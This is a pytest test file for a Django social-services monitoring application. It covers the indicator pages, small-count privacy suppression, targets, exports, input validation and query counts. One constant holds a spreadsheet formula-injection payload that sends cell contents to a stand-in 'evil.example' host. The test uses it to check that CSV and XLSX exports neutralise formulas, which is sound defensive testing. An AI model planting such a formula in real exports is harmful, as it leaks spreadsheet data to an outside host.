"""The indicator pages through the front door: the catalogue, an indicator's values for a unit and its children
(what the facts give by hand, no data against zero, small counts for the evaluator, the breakdown, last year),
the exports, bad addresses, and a number of queries that does not grow with the number of children."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from socmon.activities.models import Activity
from socmon.clients.models import Client
from socmon.indicators.models import Indicator, IndicatorValue, Target
from socmon.orgs.models import OrgLevel, OrgUnit

from .kit import activity, client, fresh
from .pages import column, table, values

pytestmark = pytest.mark.django_db

JAN, FEB, MAR = datetime.date(2026, 1, 12), datetime.date(2026, 2, 9), datetime.date(2026, 3, 16)
LAST_JAN = datetime.date(2025, 1, 20)
GROUP, INDIVIDUAL = Activity.Kind.GROUP, Activity.Kind.INDIVIDUAL
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def url(code: str, **query) -> str:
    return reverse("indicators:detail", args=[code]) + ("?" + "&".join(f"{k}={v}" for k, v in query.items())
                                                         if query else "")


@pytest.fixture
def people(world):
    return {
        "amina": client(world, world.home_care, first="Amina"),
        "boris": client(world, world.home_care, sex=Client.Sex.MALE, born=datetime.date(1990, 5, 1), first="Boris"),
        "dana": client(world, world.family, first="Dana"),
    }


# --- The catalogue ----------------------------------------------------------------------------------------

def test_the_catalogue_lists_current_indicators_and_retired_ones_apart(world, login):
    base = Indicator.objects.get(code="IP1")
    old = Indicator.objects.create(code="C1", version=1, name="Home visits", kind="process", spec=base.spec,
                                   valid_from=datetime.date(2024, 1, 1), valid_to=datetime.date(2025, 12, 31))
    Indicator.objects.create(code="C1", version=2, name="Home visits (new rule)", kind="process", spec=base.spec,
                             valid_from=datetime.date(2026, 1, 1), replaces=old)
    Indicator.objects.create(code="C9", version=1, name="Phone calls", kind="process", spec=base.spec,
                             direct=False, quantitative=False, valid_from=datetime.date(2020, 1, 1),
                             valid_to=datetime.date(2025, 6, 30))
    response = login(world.heidi).get(reverse("indicators:catalogue"))
    assert response.status_code == 200
    listed = table(response, "indicators")
    codes = [row[0].split()[0] for row in listed]
    assert codes == ["C1", "IP1", "IP2", "IP3", "IP4", "IP5", "IP6", "IR1", "IR2", "IR3", "IS1", "IS2"]
    assert listed[0][0] == "C1 Home visits (new rule) custom"  # the current version only
    ip2 = listed[2]
    assert ip2[1:6] == ["Process", "Direct", "Quantitative", "Monthly",
                        "The provider's monthly report; monitoring visits"]
    assert [row[0] for row in table(response, "indicators-retired")] == ["C9 Phone calls custom"]
    assert table(response, "indicators-retired")[0][2:4] == ["Indirect", "Qualitative"]
    assert "Indicators" in [str(item["label"]) for item in response.context["nav_items"]]


@pytest.mark.parametrize("persona", ["alice", "fiona", "adam"])
def test_people_without_indicators_are_refused(world, login, persona):
    browser = login(getattr(world, persona))
    assert browser.get(reverse("indicators:catalogue")).status_code == 403
    assert browser.get(url("IP1")).status_code == 403
    assert "Indicators" not in [str(i["label"]) for i in browser.get(reverse("home")).context["nav_items"]]


# --- Values -----------------------------------------------------------------------------------------------

def test_the_values_are_what_the_facts_give_by_hand(world, login, people):
    p = people
    activity(world, world.home_care, JAN, GROUP, [p["amina"], p["boris"]])
    activity(world, world.home_care, JAN, GROUP, [p["amina"]])
    activity(world, world.family, JAN, GROUP, [p["dana"], p["amina"]])   # Amina in a second department
    activity(world, world.home_care, MAR, GROUP, [p["amina"]])          # and again in March
    activity(world, world.home_care, LAST_JAN, GROUP, [p["boris"]])     # a year before
    fresh()
    browser = login(world.dora)

    ip2 = browser.get(url("IP2", unit=world.centre.pk, period="2026-Q1"))
    assert ip2.status_code == 200
    assert values(ip2) == {"Riverside Centre (all its units together)": "3", "Family Support": "2",
                           "Home Care": "2"}
    assert column(ip2, "Same period last year") == {"Riverside Centre (all its units together)": "1",
                                                     "Family Support": "no data", "Home Care": "1"}
    assert "Riverside Centre, Q1 2026" in ip2.content.decode()

    ip1 = browser.get(url("IP1", unit=world.centre.pk, period="2026-01"))
    assert values(ip1) == {"Riverside Centre (all its units together)": "3", "Family Support": "1",
                           "Home Care": "2"}
    # Drilling down: a child's link opens the same indicator and period for the child
    link = next(row.href for row in ip1.context["table"].rows if row.unit == world.home_care)
    child = browser.get(reverse("indicators:detail", args=["IP1"]) + link)
    assert values(child) == {"Home Care": "2"} and "Home Care, January 2026" in child.content.decode()

    by_sex = browser.get(url("IP2", unit=world.centre.pk, period="2026-Q1", by="sex"))
    assert values(by_sex, "indicator-breakdown") == {"Female": "2", "Male": "1"}
    by_age = browser.get(url("IP2", unit=world.centre.pk, period="2026-Q1", by="age"))
    assert values(by_age, "indicator-breakdown") == {
        "0 to 17 years": "0", "18 to 34 years": "0", "35 to 59 years": "1", "60 to 74 years": "0",
        "75 years and older": "2"}


def test_no_data_is_shown_apart_from_a_true_zero(world, login, people):
    activity(world, world.home_care, JAN, INDIVIDUAL, [people["amina"]])  # recorded, but no group activity
    fresh()
    response = login(world.dora).get(url("IP1", unit=world.centre.pk, period="2026-01"))
    assert values(response) == {"Riverside Centre (all its units together)": "0", "Family Support": "no data",
                                "Home Care": "0"}
    assert response.content.decode().count('<span class="socmon-no-data">no data</span>') >= 1
    empty = login(world.dora).get(url("IP1", unit=world.centre.pk, period="2026-02"))
    assert set(values(empty).values()) == {"no data"}


def test_the_page_opens_on_the_readers_top_unit_and_the_last_complete_period(world, login):
    response = login(world.ann).get(url("IP1"))
    assert response.context["table"].unit == world.country
    assert response.context["table"].period.key == "2026-10"  # TEST_NOW is in November 2026
    assert login(world.ann).get(url("IR2")).context["table"].period.key == "2026-H1"  # collected six-monthly
    assert login(world.heidi).get(url("IP1")).context["table"].unit == world.home_care


def test_the_evaluator_sees_small_counts_as_fewer_than_five(world, login, people):
    activity(world, world.home_care, JAN, GROUP, [people["amina"], people["boris"]])
    fresh()
    exact = login(world.dora).get(url("IP2", unit=world.centre.pk, period="2026-01", by="sex"))
    assert values(exact)["Home Care"] == "2"
    assert values(exact, "indicator-breakdown") == {"Female": "1", "Male": "1"}

    protected = login(world.eve).get(url("IP2", unit=world.centre.pk, period="2026-01", by="sex"))
    assert protected.status_code == 200
    assert values(protected) == {"Riverside Centre (all its units together)": "fewer than 5",
                                 "Family Support": "no data", "Home Care": "fewer than 5"}
    assert set(values(protected, "indicator-breakdown").values()) == {"fewer than 5"}
    assert column(protected, "As of")["Home Care"].startswith("computed")  # freshness stays
    assert "newest record" not in column(protected, "As of")["Home Care"]   # not the day of the one record
    assert "fewer than 5" in protected.content.decode() and 'id="values-small-counts"' in protected.content.decode()


def test_the_evaluator_cannot_work_a_hidden_count_out_from_the_units_around_it(world, login, people):
    """IP1 adds up: Riverside Centre = Home Care + Family Support. Family Support's 2 is hidden, so Home Care's
    6 is hidden too (else 8 − 6 would give 2); the centre's 8 stays."""
    for _ in range(6):
        activity(world, world.home_care, JAN, GROUP)
    for _ in range(2):
        activity(world, world.family, JAN, GROUP)
    fresh()
    shown = values(login(world.eve).get(url("IP1", unit=world.centre.pk, period="2026-01")))
    assert shown == {"Riverside Centre (all its units together)": "8", "Family Support": "fewer than 5",
                     "Home Care": "not shown"}
    # the same protection on Home Care's own page
    assert values(login(world.eve).get(url("IP1", unit=world.home_care.pk, period="2026-01"))) == {
        "Home Care": "not shown"}


def test_the_evaluators_breakdown_gives_no_small_count_away(world, login):
    """Seven clients, one of them a man: "Male: fewer than 5" beside "Female: 6" and the total 7 would give 1
    back, so the women's count is not shown either; the total stays."""
    women = [client(world, world.home_care, first=f"Woman {i}") for i in range(6)]
    man = client(world, world.home_care, sex=Client.Sex.MALE, first="Marat")
    activity(world, world.home_care, JAN, GROUP, [*women, man])
    fresh()
    response = login(world.eve).get(url("IP2", unit=world.home_care.pk, period="2026-01", by="sex"))
    assert values(response) == {"Home Care": "7"}
    assert values(response, "indicator-breakdown") == {"Female": "not shown", "Male": "fewer than 5"}
    exact = login(world.heidi).get(url("IP2", unit=world.home_care.pk, period="2026-01", by="sex"))
    assert values(exact, "indicator-breakdown") == {"Female": "6", "Male": "1"}


def test_a_ratio_is_shown_as_a_percentage_and_only_when_both_its_parts_may_be(world, login):
    spec = {"numerator": [{"fact": "ratings", "measure": "count", "filters": {"score_at_least": 8}}],
            "denominator": [{"fact": "ratings", "measure": "count"}], "percent": True}
    ratio = Indicator.objects.create(code="R1", name="Visits rated 8 or more", kind="satisfaction", spec=spec,
                                     valid_from=datetime.date(2020, 1, 1))
    now, start = timezone.now(), datetime.date(2026, 1, 1)
    for unit, numerator, denominator in ((world.centre, 43, 50), (world.home_care, 3, 4), (world.family, 0, 0)):
        IndicatorValue.objects.create(indicator=ratio, org_unit=unit, period_type="M", period_start=start,
                                      numerator=numerator, denominator=denominator, computed_at=now)
    Target.objects.create(indicator=ratio, org_unit=world.centre, period_type="M", period_start=start, target=90,
                          set_by=world.sam, set_at=now)
    exact = login(world.dora).get(url("R1", unit=world.centre.pk, period="2026-01"))
    assert values(exact) == {"Riverside Centre (all its units together)": "86.0%", "Family Support":
                             "cannot be computed: nothing to divide by", "Home Care": "75.0%"}
    assert column(exact, "Gap")["Riverside Centre (all its units together)"] == "-4 worse than the target"
    protected = login(world.eve).get(url("R1", unit=world.centre.pk, period="2026-01"))
    assert values(protected) == {"Riverside Centre (all its units together)": "86.0%", "Family Support":
                                 "cannot be computed: nothing to divide by", "Home Care": "not shown"}


def test_targets_and_the_gap_stand_beside_the_value(world, login, people):
    activity(world, world.home_care, JAN, GROUP, [people["amina"], people["boris"]])
    fresh()
    indicator = Indicator.objects.get(code="IP2")
    for unit, planned in ((world.home_care, 5), (world.family, 0)):
        Target.objects.create(indicator=indicator, org_unit=unit, period_type="M",
                              period_start=datetime.date(2026, 1, 1), target=planned, baseline=1, set_by=world.sam,
                              set_at=timezone.now())
    response = login(world.dora).get(url("IP2", unit=world.centre.pk, period="2026-01"))
    assert column(response, "Target") == {"Riverside Centre (all its units together)": "", "Family Support": "0",
                                          "Home Care": "5"}
    assert column(response, "Gap")["Home Care"] == "-3 worse than the target"
    assert column(response, "Gap")["Family Support"] == ""  # no data: no gap


# --- Exports ----------------------------------------------------------------------------------------------

def test_the_exports_escape_formulas_and_keep_the_protection(world, login, people):
    OrgUnit.objects.filter(pk=world.home_care.pk).update(name=EVIL)
    activity(world, world.home_care, JAN, GROUP, [people["amina"], people["boris"]])
    fresh()
    query = {"unit": world.centre.pk, "period": "2026-01"}
    xlsx = login(world.dora).get(reverse("indicators:export_xlsx", args=["IP2"]), query)
    assert xlsx.status_code == 200 and xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    evil = next(c for c in cells if c.value == EVIL)
    assert evil.data_type == "s" and evil.quotePrefix
    rows = {row[0].value: [c.value for c in row] for row in book.active.iter_rows() if row[0].value}
    assert rows[EVIL][2] == 2 and rows["Family Support"][2] == "no data"

    text = login(world.dora).get(reverse("indicators:export_csv", args=["IP2"]), query).content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0][:3] == ["Organisation unit", "Breakdown", "Value"]
    assert ["'" + EVIL, "All (total)", "2"] == next(line for line in lines if "HYPERLINK" in line[0])[:3]

    protected = login(world.eve).get(reverse("indicators:export_csv", args=["IP2"]), query).content.decode()
    assert "fewer than 5" in protected and ",2," not in protected


# --- Bad addresses ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("query,message", [
    ({"period": "2026-13"}, "A month is numbered from 01 to 12."),
    ({"period": "2026-Q5"}, "Give a period as 2026-11 (month)"),
    ({"period": "1850"}, "Give a year between 2000 and 2100."),
    ({"period": "yesterday"}, "Give a period as 2026-11 (month)"),
    ({"by": "religion"}, "Choose a breakdown from the list."),
])
def test_a_period_or_breakdown_that_does_not_exist_is_explained(world, login, query, message):
    response = login(world.dora).get(reverse("indicators:detail", args=["IP2"]), query)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert response.context["table"] is None
    export = login(world.dora).get(reverse("indicators:export_csv", args=["IP2"]), query)
    assert export.status_code == 400 and message in export.content.decode()


@pytest.mark.parametrize("query", [{"unit": "99999999"}, {"unit": "x"}, {"unit": "99999999999999999999999"},
                                   {"version": "7"}, {"version": "-1"}])
def test_unknown_units_and_versions_are_not_found(world, login, query):
    assert login(world.dora).get(reverse("indicators:detail", args=["IP2"]), query).status_code == 404


def test_units_out_of_reach_are_not_found(world, login):
    assert login(world.dora).get(url("IP2", unit=world.hill_care.pk)).status_code == 404
    assert login(world.heidi).get(url("IP2", unit=world.family.pk)).status_code == 404
    assert login(world.sam).get(url("IP2", unit=world.north.pk)).status_code == 200
    assert login(world.dora).get(reverse("indicators:detail", args=["NOPE"])).status_code == 404


def test_an_older_version_is_shown_with_its_own_values(world, login):
    current = Indicator.objects.get(code="IP1")
    newer = Indicator.objects.create(code="IP1", version=2, kind="process", spec=current.spec, built_in=True,
                                     valid_from=datetime.date(2027, 1, 1), replaces=current)
    IndicatorValue.objects.create(indicator=current, org_unit=world.home_care, period_type="M",
                                  period_start=datetime.date(2026, 1, 1), numerator=7, computed_at=timezone.now())
    browser = login(world.heidi)
    assert browser.get(url("IP1")).context["indicator"] == newer
    old = browser.get(url("IP1", version=1, unit=world.home_care.pk, period="2026-01"))
    assert old.context["indicator"] == current and values(old) == {"Home Care": "7"}
    assert 'id="indicator-retired"' in old.content.decode()


# --- Queries ----------------------------------------------------------------------------------------------

def _departments(world, numbers) -> list[OrgUnit]:
    level = OrgLevel.objects.get(code="department")
    return [OrgUnit.objects.add_child(OrgUnit.objects.get(pk=world.centre.pk),
                                      {"name": f"Department {i:02d}", "code": f"dept-{i}", "level": level})
            for i in numbers]


def _stored(indicator, units, *, by) -> None:
    """A total and a member per unit for January 2026, and a target each."""
    now, start = timezone.now(), datetime.date(2026, 1, 1)
    IndicatorValue.objects.bulk_create(
        [IndicatorValue(indicator=indicator, org_unit=u, period_type="M", period_start=start, dimension=dim,
                        member=member, numerator=n, computed_at=now)
         for i, u in enumerate(units) for dim, member, n in (("", "", 10 + i), ("sex", "female", 6))])
    Target.objects.bulk_create([Target(indicator=indicator, org_unit=u, period_type="M", period_start=start,
                                       target=12, set_by=by, set_at=now) for u in units])


@pytest.mark.parametrize("persona", ["dora", "eve"])
def test_the_page_makes_as_many_queries_for_thirty_children_as_for_three(world, login, persona,
                                                                        django_assert_max_num_queries):
    indicator = Indicator.objects.get(code="IP1")
    centre = OrgUnit.objects.get(pk=world.centre.pk)
    _stored(indicator, [centre, world.home_care, world.family, *_departments(world, range(1))], by=world.sam)
    browser = login(getattr(world, persona))
    address = url("IP1", unit=world.centre.pk, period="2026-01", by="sex")
    browser.get(address)
    with CaptureQueriesContext(connection) as three:
        response = browser.get(address)
    assert len(response.context["table"].rows) == 4

    _stored(indicator, _departments(world, range(1, 28)), by=world.sam)
    with django_assert_max_num_queries(len(three.captured_queries)):
        response = browser.get(address)
    assert len(response.context["table"].rows) == 31
    if persona == "dora":
        assert values(response)["Department 27"] == "36"
